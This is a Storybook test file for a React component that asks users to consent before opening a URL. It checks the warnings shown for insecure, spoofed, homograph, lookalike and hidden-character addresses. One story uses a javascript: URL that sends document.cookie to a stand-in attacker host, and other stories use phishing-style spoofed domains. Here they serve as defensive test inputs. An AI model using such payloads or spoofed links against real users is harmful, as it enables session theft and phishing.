import { useState } from 'react';
import { expect, fn, waitFor } from 'storybook/test';
import { ElicitationProvider, UrlConsent, type UrlConsentProps } from 'react-mcp-elicitation';
import { partIn, sayIn } from '../../.storybook/words.ts';
import preview from '../../.storybook/preview.tsx';

const server = { name: 'GitHub', url: 'https://mcp.github.com/sse' };

const ask = (url: string, elicitationId?: string) => ({
  mode: 'url' as const,
  message: 'Connect your account, so that issues can be listed in this chat.',
  url,
  ...(elicitationId !== undefined && { elicitationId }),
});

interface ConsentProps extends UrlConsentProps {
  openUrl: (href: string) => void | boolean;
}

function Consent({ openUrl, ...props }: ConsentProps) {
  return (
    <ElicitationProvider openUrl={openUrl}>
      <UrlConsent {...props} />
    </ElicitationProvider>
  );
}

/** A page that its server calls done as soon as it is open. */
function QuickPage(props: ConsentProps) {
  const [stage, setStage] = useState<'finished'>();
  return <Consent {...props} stage={stage} onOpen={() => setStage('finished')} />;
}

const meta = preview.meta({
  title: 'Url/Consent',
  component: Consent,
  args: { server, onRespond: fn(), onDismiss: fn(), openUrl: fn(), request: ask('') },
});

/** An ordinary address. All of it is shown, with its registrable domain emphasized. */
export const Https = meta.story({
  args: {
    request: ask(
      'https://login.github.com/oauth/authorize?client_id=Iv1.8a61f9b3a7aba766&scope=repo%20read%3Aorg&state=7f3c',
    ),
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(await canvas.findByText('github')).toBeVisible();
    await expect(canvas.queryByRole('link')).toBeNull();
    await expect(canvasElement.querySelector('[data-slot=elicitation-findings]')).toBeNull();
  },
});

/** The connection is not encrypted. That is a danger, so a box has to be ticked before Open. */
export const Http = meta.story({
  args: { request: ask('http://login.example.com/start') },
  play: async ({ canvas, userEvent, args, globals }) => {
    const say = sayIn(globals);
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingInsecure'))).toBeVisible();
    await userEvent.click(canvas.getByRole('button', { name: say('openAnyway') }));
    await expect(
      await canvas.findByText(say('guardNeedsConsent'), { selector: '[role=alert] *' }),
    ).toBeVisible();
    await expect(args.openUrl).not.toHaveBeenCalled();
  },
});

/** The answer did not arrive. */
export const NotSent = meta.story({
  args: {
    request: ask('https://login.github.com/oauth/authorize'),
    onRespond: fn(() => Promise.reject(new Error('The session has ended. Sign in again.'))),
  },
  play: async ({ canvas, userEvent, globals }) => {
    const say = sayIn(globals);
    await userEvent.click(await canvas.findByRole('button', { name: say('decline') }));
    await expect(await canvas.findByText(say('sendFailed'))).toBeVisible();
  },
});

/** A program on the person's own computer, where the server runs too. A quiet note says so. */
export const Localhost = meta.story({
  args: {
    server: { name: 'GitHub', url: 'http://localhost:3000' },
    request: ask('http://localhost:8976/callback'),
  },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingLocalNetwork'))).toBeVisible();
  },
});

/** The same address from a server elsewhere, which reaches into the person's computer. */
export const LocalhostFromAfar = meta.story({
  args: { request: ask('http://localhost:8976/callback') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingLocalNetwork'))).toBeVisible();
  },
});

/** The host is a bare number instead of a name. */
export const IpAddress = meta.story({
  args: { request: ask('https://93.184.216.34/setup') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingIpAddress'))).toBeVisible();
  },
});

/** An honest internationalized domain. It is shown in its own letters, with its ASCII form beside it and no warning. */
export const PunycodeHonest = meta.story({
  args: { request: ask('https://konto.bücher.example/anmelden') },
  play: async ({ canvas, canvasElement, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('asciiForm'))).toBeVisible();
    await expect(canvas.getByText('bücher')).toBeVisible();
    await expect(canvasElement.querySelector('[data-slot=elicitation-findings]')).toBeNull();
  },
});

/** A name of Cyrillic letters alone, which look like Latin ones. It is shown in ASCII, and a warning says which domain it is not. */
export const PunycodeSpoofed = meta.story({
  args: { request: ask('https://аррӏе.com/login') },
  play: async ({ canvas, globals }) => {
    await expect(
      await canvas.findByRole('alert', { name: partIn(globals)('titleNot') }),
    ).toBeVisible();
    await expect(canvas.getByText('xn--80ak6aa92e')).toBeVisible();
  },
});

/** Letters of two alphabets in one name. */
export const MixedScript = meta.story({
  args: { request: ask('https://kаntine.example/login') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingMixedScript'))).toBeVisible();
  },
});

/** What stands before the @ is a user name and not the host. Such an address is never opened. */
export const Userinfo = meta.story({
  args: { request: ask('https://github.com@evil.example/login') },
  play: async ({ canvas, globals }) => {
    const say = sayIn(globals);
    await expect(await canvas.findByText(say('levelBlock'))).toBeVisible();
    await expect(canvas.queryByText(say('openAnyway'))).toBeNull();
  },
});

/** The host poses as github.com: it begins with that name, and has a word of login pages. */
export const FamousName = meta.story({
  args: { request: ask('https://github.com-auth.dev/session') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByRole('alert', { name: part('titleNot') })).toBeVisible();
  },
});

/** One letter from the domain of the server that asks. */
export const LookalikeOfTheServer = meta.story({
  args: { request: ask('https://login.githup.com/oauth') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByRole('alert', { name: part('titleNot') })).toBeVisible();
    await expect(canvas.getByText(part('findingLookalike'))).toBeVisible();
  },
});

/** A page under a suffix where anybody can publish. */
export const SharedHosting = meta.story({
  args: { request: ask('https://my-app.vercel.app/connect') },
  play: async ({ canvas, globals }) => {
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingShared'))).toBeVisible();
  },
});

/** A page where a person lets another device use their account. Attackers send people there too, so a quiet note says so. */
export const DeviceSignIn = meta.story({
  args: { request: ask('https://github.com/login/device') },
  play: async ({ canvas, globals }) => {
    await expect(await canvas.findByText(partIn(globals)('findingDevice'))).toBeVisible();
  },
});

/** A character that cannot be seen. It is spelled out where the address is shown as the server sent it. */
export const HiddenCharacters = meta.story({
  args: { request: ask('https://example.com/\u202egpj.tnemecnuonna') },
  play: async ({ canvas }) => {
    await expect(await canvas.findByText(/⟨U\+202E⟩/)).toBeVisible();
  },
});

/** A right-to-left name between left-to-right ones. No label changes its place. */
export const RightToLeftHost = meta.story({
  args: { request: ask('https://login.דוגמה-טובה.example/') },
  play: async ({ canvas }) => {
    const [label] = await canvas.findAllByText('דוגמה-טובה');
    await expect(label).toBeVisible();
  },
});

/** An address of two thousand characters. All of them are shown, in a box that scrolls. */
export const LongQuery = meta.story({
  args: {
    request: ask(`https://login.example.com/authorize?state=${'0123456789abcdef'.repeat(125)}`),
  },
  play: async ({ canvas, globals }) => {
    const say = sayIn(globals);
    const address = await canvas.findByRole('group', { name: say('address') });
    await expect(address.textContent).toHaveLength(2042);
    await expect(address.scrollHeight).toBeGreaterThan(address.clientHeight);
  },
});

/** A URL that is not a web page is never opened. */
export const RefusedScheme = meta.story({
  args: { request: ask('javascript:fetch("https://evil.example/?c=" + document.cookie)') },
  play: async ({ canvas, globals }) => {
    const say = sayIn(globals);
    const part = partIn(globals);
    await expect(await canvas.findByText(part('findingScheme'))).toBeVisible();
    await expect(canvas.queryByText(say('openAnyway'))).toBeNull();
  },
});

/** The page did not open. The request still waits, and Open can be tried again. */
export const PopupBlocked = meta.story({
  args: { request: ask('https://login.example.com/', 'e1'), openUrl: fn(() => false) },
  play: async ({ canvas, userEvent, args, globals }) => {
    const say = sayIn(globals);
    const part = partIn(globals);
    await canvas.findByText('example');
    const open = await canvas.findByRole('button', {
      name: say('openDomain', { domain: 'example.com' }),
    });
    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
    await userEvent.click(open);
    await expect(await canvas.findByText(part('notOpened'))).toBeVisible();
    await expect(canvas.getByRole('button', { name: say('tryAgain') })).toBeVisible();
    await expect(args.onRespond).not.toHaveBeenCalled();
  },
});

/** The page is open in another tab or window. The accept has been sent. */
export const Waiting = meta.story({
  args: { request: ask('https://login.example.com/', 'e1') },
  play: async ({ canvas, userEvent, globals }) => {
    const say = sayIn(globals);
    const part = partIn(globals);
    const open = await canvas.findByRole('button', {
      name: say('openDomain', { domain: 'example.com' }),
    });
    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
    await userEvent.click(open);
    await expect(await canvas.findByText(part('waiting'))).toBeVisible();
    await expect(canvas.queryByRole('button', { name: say('decline') })).toBeNull();
  },
});

/** Revision 2026-07-28: the accept is sent when the person says that they are done. */
export const WaitingToFinish = meta.story({
  args: { request: ask('https://login.example.com/') },
  play: async ({ canvas, userEvent, args, globals }) => {
    const say = sayIn(globals);
    const open = await canvas.findByRole('button', {
      name: say('openDomain', { domain: 'example.com' }),
    });
    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
    await userEvent.click(open);
    await expect(args.openUrl).toHaveBeenCalledWith('https://login.example.com/');
    await expect(await canvas.findByRole('button', { name: say('iHaveFinished') })).toBeVisible();
    await expect(args.onRespond).not.toHaveBeenCalled();
  },
});

/** The server has said that the page is done. */
export const Completed = meta.story({
  args: { request: ask('https://login.example.com/', 'e1') },
  render: (args) => <QuickPage {...args} />,
  play: async ({ canvas, userEvent, globals }) => {
    const part = partIn(globals);
    const open = await canvas.findByRole('button', {
      name: sayIn(globals)('openDomain', { domain: 'example.com' }),
    });
    await waitFor(() => expect(open).toHaveAttribute('aria-disabled', 'false'));
    await userEvent.click(open);
    await expect(await canvas.findByText(part('completed'))).toBeVisible();
  },
});
